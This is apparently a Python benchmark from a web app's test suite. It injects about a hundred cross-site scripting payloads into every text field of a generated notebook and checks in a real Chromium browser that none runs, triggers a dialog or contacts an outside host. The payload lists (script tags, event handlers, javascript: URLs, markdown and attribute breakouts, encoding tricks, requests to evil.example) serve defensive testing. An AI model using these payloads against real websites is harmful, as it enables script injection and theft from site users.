"""A hundred payloads in every field of a book, every page in a real browser (W3).

    python benchmarks/web/xss.py --count 100

Each payload, with `--each` of them in one text, is every free text of the book that
`tests/hostile_book.py` makes: names of folders, notes, hypothesis, prompts, answers, samples,
verdicts, paths, settings of runs and judges, the index page. A headless Chromium (`apt-get install
chromium`) opens every page of the server, opens what is folded and hovers over and focuses what can
be. No dialog may open, no request may leave, no script of a payload may have run, and no page may
say that one was blocked.
"""

from __future__ import annotations

import argparse
import itertools
import shutil
import sys
import tempfile
from collections import Counter
from pathlib import Path
from typing import Any

sys.path.append(str(Path(__file__).resolve().parents[1] / "faults_io"))
sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "tests"))
sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "tests" / "browser"))

from report import reported
from safety import record

import hostile_book
from addresses import pages
from conftest import serving

RUN = "window.fooled=1;alert(1)"
FAR = "http://evil.example/x"
TAGS = (
    f"<script>{RUN}</script>", f"<script src={FAR}></script>", f"<img src=x onerror='{RUN}'>",
    f"<img src={FAR}>", f"<svg onload='{RUN}'>", f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s>", f"<body onload='{RUN}'>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", f"<iframe src={FAR}></iframe>",
    f"<iframe src='javascript:{RUN}'></iframe>", f"<object data={FAR}></object>",
    f"<embed src={FAR}>", f"<link rel=stylesheet href={FAR}>", f"<base href={FAR}/>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>", f"<form action={FAR}><button autofocus>",
    f"<input onfocus='{RUN}' autofocus>", f"<details open ontoggle='{RUN}'>x</details>",
    f"<video src={FAR} onerror='{RUN}'></video>", f"<audio src={FAR} autoplay></audio>",
    f"<style>@import '{FAR}';</style>", f"<style>*{{background:url({FAR})}}</style>",
    f"<div style='background:url({FAR})'>x</div>", f"<a href='javascript:{RUN}' autofocus>x</a>",
    f"<math><mtext><script>{RUN}</script></mtext></math>", f"<noscript><p title='</noscript><img "
    f"src=x onerror={RUN}>'>", f"<template><script>{RUN}</script></template>",
    f"<marquee onstart='{RUN}'>x</marquee>", f"<select autofocus onfocus='{RUN}'>",
    f"<x hx-get='{FAR}' hx-trigger='load'>x</x>", f"<x hx-on:load='{RUN}'>x</x>",
    f"<x data-hx-get='{FAR}' data-hx-trigger='load'>x</x>",
)  # fmt: skip
MARKDOWN = (
    f"[x](javascript:{RUN})", f"![x]({FAR})", f"![x]({FAR} \"t' onerror='{RUN}\")",
    f"[x](data:text/html,<script>{RUN}</script>)", f"<javascript:{RUN}>", f"<{FAR}>",
    f"[x]: javascript:{RUN}\n[x]", f"[x](  java\tscript:{RUN})", f"[x](&#106;avascript:{RUN})",
    f"[x](vbscript:{RUN})",
    f"``` <script>{RUN}</script>\nx\n```", 
    f"`</code><script>{RUN}</script>`",
    f"| a |\n|---|\n| <script>{RUN}</script> |", f"# <img src=x onerror={RUN}>",
)  # fmt: skip
INSIDE = (
    f"\"><script>{RUN}</script>", f"'><script>{RUN}</script>", f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>", f"</style><script>{RUN}</script>",
    f"</script><script>{RUN}</script>", f"--><script>{RUN}</script>", f"]]><script>{RUN}</script>",
    f"\" onmouseover=\"{RUN}", f"' onfocus='{RUN}' autofocus='", f"\" style=\"x:expression({RUN})",
    f"{{{{constructor.constructor('{RUN}')()}}}}", f"${{{RUN}}}", f"{{% raw %}}{RUN}", "{{7*7}}",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"%3Cscript%3E{RUN}%3C/script%3E", f"\u2028{RUN}\u2029", f"<\u0000script>{RUN}</script>",
    f"<<script>{RUN}//<</script>", f"<scr<script>ipt>{RUN}</script>", f"<ScRiPt >{RUN}</sCrIpT\t>",
    f"<script\n>{RUN}</script\n>", f"<script/x>{RUN}</script>", f"<img/src=x/onerror={RUN}>",
    f"<svg/onload={RUN}>", f"<img src=x onerror\n=\n{RUN}>", f"<img src=`x`onerror={RUN}>",
    f"\ufeff<script>{RUN}</script>", f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"\u202e<script>{RUN}</script>", "\x1b]8;;" + FAR + "\x07x\x1b]8;;\x07",
)  # fmt: skip


def payloads(count: int) -> list[str]:
    """Give so many: each alone, then pairs of an opening and a tag."""
    pairs = (f"{a} {b}" for a, b in itertools.product(INSIDE, TAGS))
    return list(itertools.islice(itertools.chain(TAGS, MARKDOWN, INSIDE, pairs), count))


def main() -> int:
    """Show all of them."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--count", type=int, default=100)
    parser.add_argument("--each", type=int, default=20, help="payloads in one text")
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--write", action="store_true", help="into benchmarks/results/safety")
    options = parser.parse_args()
    chromium = shutil.which("chromium") or shutil.which("google-chrome")
    if chromium is None:
        print("xss: left out, there is no Chromium here (Debian: apt-get install chromium)")
        return 0
    from playwright.sync_api import sync_playwright

    from tunebook.book.places import create_book
    from tunebook.web.app import make_app

    wrong: list[str] = []
    with (
        reported("xss", options) as counts,
        tempfile.TemporaryDirectory() as folder,
        sync_playwright() as playwright,
    ):
        browser = playwright.chromium.launch(
            executable_path=chromium, args=["--no-sandbox", "--disable-gpu"]
        )
        every = payloads(options.count)
        for number in range(0, len(every), options.each):
            payload = "\n".join(every[number : number + options.each])
            counts["payloads"] += len(every[number : number + options.each])
            hostile_book.HOSTILE = hostile_book.LINK = hostile_book.PICTURE = payload
            book = hostile_book.make_hostile_book(create_book(Path(folder) / f"book-{number}"))
            wrong += shown(browser, book, payload, pages(make_app(book)), counts)
            shutil.rmtree(book)
        browser.close()
        counts["wrong"] = len(wrong)
        for line in wrong[:20]:
            print(line, file=sys.stderr)
    record("W3", "W3", "A payload in every text of a book, on every page in a real browser: no "
           "dialog, no request to another host, no script run", options, counts["payloads"],
           len(wrong))  # fmt: skip
    return 1 if wrong else 0


def shown(
    browser, book: Path, payload: str, addresses: list[str], counts: Counter[str]
) -> list[str]:  # type: ignore[no-untyped-def]
    """Open every page of a book; gives what went wrong."""
    wrong: list[str] = []
    with serving(book) as address:
        context = browser.new_context(base_url=address)
        tab = context.new_page()
        at = ""

        def dialog(one: Any) -> None:
            wrong.append(f"{payload[:200]!r} at {at}: a dialog")
            one.dismiss()

        def asked(one: Any) -> None:
            url = one.url
            if not url.startswith((address, "data:", "blob:")):
                wrong.append(f"{payload[:200]!r} at {at}: asked {url}")

        def said(one: Any) -> None:
            if one.type == "error" and "Content Security Policy" in one.text:
                wrong.append(f"{payload[:200]!r} at {at}: {one.text[:200]}")

        tab.on("dialog", dialog)
        context.on("request", asked)
        tab.on("console", said)
        for at in [*addresses, "/runs/waits", "/runs/imported"]:
            tab.goto(at)
            tab.evaluate(
                "for (const one of document.querySelectorAll('main *')) {"
                " if (one.tagName === 'DETAILS') one.open = true;"
                " one.dispatchEvent(new Event('mouseover')); if (one.tabIndex >= 0) one.focus(); }"
            )
            counts["pages"] += 1
            if tab.evaluate("window.fooled") is not None:
                wrong.append(f"{payload[:200]!r} at {at}: ran")
        context.close()
    return wrong


if __name__ == "__main__":
    sys.exit(main())
